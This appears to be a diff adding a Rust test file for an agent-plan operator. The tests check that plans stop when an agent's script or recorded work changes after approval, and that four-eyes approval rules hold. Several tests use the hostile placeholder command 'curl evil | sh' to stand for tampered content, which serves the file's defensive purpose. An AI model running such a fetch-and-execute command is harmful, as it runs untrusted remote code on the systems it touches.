@@ -1,0 +1,228 @@
+//! Agents that change after the approval of their plan, against an API server and a record store in memory.
+
+use serde_json::{Value, json};
+
+use crate::testing::Bench;
+
+/// Returns a bench with a plan of two tasks, of which the second waits for the first, and whose agent has the script `make`.
+async fn bench(required: u32) -> Bench {
+    let mut bench = Bench::new().await;
+    set_script(&mut bench, "make");
+    let task = |id: &str, needs: &[&str]| json!({"id": id, "title": id, "dependsOn": needs});
+    bench.api.put(
+        "plans/p",
+        json!({
+            "apiVersion": "enact.dev/v1alpha1", "kind": "Plan",
+            "metadata": {"name": "p", "namespace": "ns", "generation": 1},
+            "spec": {
+                "agentRef": {"name": "coder"}, "approval": {"required": required},
+                "tasks": [task("T001", &[]), task("T002", &["T001"])],
+            },
+        }),
+    );
+    bench
+}
+
+fn set_script(bench: &mut Bench, script: &str) {
+    bench.agent_with("coder", json!({"adapter": "Command", "script": script}));
+}
+
+fn status(bench: &Bench) -> Value {
+    bench.api.get("plans/p")["status"].clone()
+}
+
+fn reason(bench: &Bench) -> String {
+    status(bench)["conditions"][0]["reason"].as_str().unwrap_or_default().to_owned()
+}
+
+/// Adds a decision on the present content.
+fn decide(bench: &mut Bench, name: &str, decision: &str) {
+    let digest = status(bench)["digest"].clone();
+    bench.approval(&json!({
+        "apiVersion": "enact.dev/v1alpha1", "kind": "Approval",
+        "metadata": {"name": name, "namespace": "ns", "uid": name, "creationTimestamp": "2026-01-01T00:00:00Z"},
+        "spec": {
+            "subject": {"kind": "Plan", "name": "p"}, "digest": digest, "decision": decision, "comment": "no",
+            "by": {"user": name, "groups": []},
+        },
+    }));
+}
+
+/// Returns the bench with the first task of the approved plan running.
+async fn running() -> Bench {
+    let mut bench = bench(1).await;
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "WaitingForApproval");
+    decide(&mut bench, "kim", "Approve");
+    bench.plan("p").await.unwrap();
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t001-1"), "{}", status(&bench));
+    bench
+}
+
+fn revisions(bench: &Bench) -> usize {
+    bench.record_store.summaries().iter().filter(|summary| *summary == "p: revision").count()
+}
+
+#[tokio::test]
+async fn a_script_swapped_after_the_approval_does_not_run() {
+    let mut bench = running().await;
+    let approved = status(&bench)["digest"].clone();
+    set_script(&mut bench, "curl evil | sh");
+    bench.succeed("p-t001-1").await;
+    bench.plan("p").await.unwrap();
+    let held = status(&bench);
+    assert_eq!(reason(&bench), "AgentChanged", "{held}");
+    let message = held["conditions"][0]["message"].as_str().unwrap();
+    assert!(message.contains("(coder)") && message.contains("kubectl enact approve plan/p"), "{message}");
+    assert_eq!(bench.api.get("tasks/p-t001")["status"]["phase"], "Succeeded", "running attempts continue");
+    assert!(!bench.api.has("pods/p-t002-1"));
+    assert_ne!(held["digest"], approved, "people decide on the changed content");
+    assert_eq!(held["approvedDigest"], approved);
+
+    // A new process of the operator holds it too.
+    bench.contexts.plans.runtimes.forget(bench.api.get("plans/p")["metadata"]["uid"].as_str().unwrap());
+    bench.plan("p").await.unwrap();
+    assert_eq!((reason(&bench).as_str(), bench.api.has("pods/p-t002-1")), ("AgentChanged", false));
+    assert_eq!(revisions(&bench), 1);
+
+    decide(&mut bench, "lee", "Approve");
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t002-1"), "{}", status(&bench));
+    let after = status(&bench);
+    assert_eq!((&after["digest"], &after["approvedDigest"]), (&held["digest"], &held["digest"]));
+    assert_eq!(revisions(&bench), 2, "the record has what was approved");
+    bench.succeed("p-t002-1").await;
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "Succeeded");
+}
+
+#[tokio::test]
+async fn a_restored_agent_releases_the_plan() {
+    let mut bench = running().await;
+    set_script(&mut bench, "curl evil | sh");
+    bench.succeed("p-t001-1").await;
+    bench.plan("p").await.unwrap();
+    decide(&mut bench, "lee", "Reject");
+    bench.pass(3);
+    bench.plan("p").await.unwrap();
+    let message = status(&bench)["conditions"][0]["message"].as_str().unwrap().to_owned();
+    assert!(reason(&bench) == "AgentChanged" && message.contains("rejected by lee: no"), "{message}");
+    set_script(&mut bench, "make");
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t002-1"), "{}", status(&bench));
+    assert_eq!(status(&bench)["digest"], status(&bench)["approvedDigest"]);
+}
+
+#[tokio::test]
+async fn a_recorded_attempt_without_a_pod_gets_none() {
+    let mut bench = bench(1).await;
+    bench.plan("p").await.unwrap();
+    decide(&mut bench, "kim", "Approve");
+    bench.plan("p").await.unwrap();
+    bench.api.refuse("POST pods/", 403, "pods is forbidden: exceeded quota: enact-tenant, limited: pods=0");
+    bench.plan("p").await.unwrap_err();
+    set_script(&mut bench, "curl evil | sh");
+    bench.api.relent();
+    bench.plan("p").await.unwrap();
+    assert_eq!((reason(&bench).as_str(), bench.api.has("pods/p-t001-1")), ("AgentChanged", false));
+    assert_eq!(bench.contexts.plans.limiter.running("default"), 0, "it has no slot");
+    set_script(&mut bench, "make");
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t001-1"), "{}", status(&bench));
+}
+
+#[tokio::test]
+async fn a_plan_without_approvals_is_not_held() {
+    let mut bench = bench(0).await;
+    bench.plan("p").await.unwrap();
+    bench.plan("p").await.unwrap();
+    set_script(&mut bench, "make all");
+    bench.succeed("p-t001-1").await;
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t002-1"), "{}", status(&bench));
+}
+
+#[tokio::test]
+async fn the_digest_of_a_waiting_plan_follows_its_agents() {
+    let mut bench = bench(1).await;
+    bench.plan("p").await.unwrap();
+    let before = status(&bench);
+    assert_eq!(before["agents"][0]["name"], "coder", "{before}");
+    decide(&mut bench, "kim", "Approve");
+    set_script(&mut bench, "curl evil | sh");
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "WaitingForApproval");
+    assert_ne!(status(&bench)["digest"], before["digest"]);
+    assert_ne!(status(&bench)["agents"][0]["digest"], before["agents"][0]["digest"]);
+}
+
+#[tokio::test]
+async fn a_tenants_minimum_holds_a_plan_without_a_policy() {
+    let mut bench = bench(0).await;
+    let minimum = json!({"plans": {"required": 1, "groups": ["leads"]}});
+    bench.tenant_with("acme", json!({"namespaces": ["ns"], "parallelism": 9, "minimumApprovals": minimum}));
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "WaitingForApproval", "{}", status(&bench));
+    decide(&mut bench, "kim", "Approve");
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "WaitingForApproval", "kim is in no group");
+}
+
+#[tokio::test]
+async fn people_approve_after_config_maps_are_read() {
+    let mut bench = bench(1).await;
+    let work =
+        json!({"metadata": {"name": "work", "namespace": "ns"}, "data": {"T001.patch": "one", "T002.patch": "two"}});
+    bench.api.put("configmaps/work", work);
+    bench.api.put(
+        "agents/coder",
+        json!({
+            "apiVersion": "enact.dev/v1alpha1", "kind": "Agent",
+            "metadata": {"name": "coder", "namespace": "ns", "generation": 1},
+            "spec": {"adapter": "Replay", "replay": {"configMapRef": {"name": "work"}}},
+        }),
+    );
+    bench.agent_is("coder");
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "AgentNotReady", "{}", status(&bench));
+    bench.reconcile_agent("coder").await.unwrap();
+    bench.agent_is("coder");
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "WaitingForApproval", "{}", status(&bench));
+
+    let before = status(&bench)["digest"].clone();
+    bench.api.change("configmaps/work", &json!({"data": {"T001.patch": "curl evil | sh"}}));
+    bench.reconcile_agent("coder").await.unwrap();
+    bench.agent_is("coder");
+    bench.plan("p").await.unwrap();
+    assert_ne!(status(&bench)["digest"], before, "the recorded work is a part of what is approved");
+}
+
+#[tokio::test]
+async fn who_changed_an_agent_cannot_approve_it_with_four_eyes() {
+    let mut bench = bench(1).await;
+    bench.api.change("plans/p", &json!({"spec": {"approval": {"fourEyes": true}}}));
+    bench.plan("p").await.unwrap();
+    decide(&mut bench, "kim", "Approve");
+    bench.plan("p").await.unwrap();
+    bench.plan("p").await.unwrap();
+    bench.api.put(
+        "agents/coder",
+        json!({
+            "apiVersion": "enact.dev/v1alpha1", "kind": "Agent",
+            "metadata": {"name": "coder", "namespace": "ns", "annotations": {"enact.dev/author": "kim"}},
+            "spec": {"adapter": "Command", "script": "curl evil | sh"},
+        }),
+    );
+    bench.agent_is("coder");
+    bench.succeed("p-t001-1").await;
+    bench.plan("p").await.unwrap();
+    assert_eq!(status(&bench)["agents"][0]["author"], "kim");
+    decide(&mut bench, "kim", "Approve");
+    bench.plan("p").await.unwrap();
+    assert_eq!((reason(&bench).as_str(), bench.api.has("pods/p-t002-1")), ("AgentChanged", false));
+    decide(&mut bench, "lee", "Approve");
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t002-1"), "{}", status(&bench));
+}
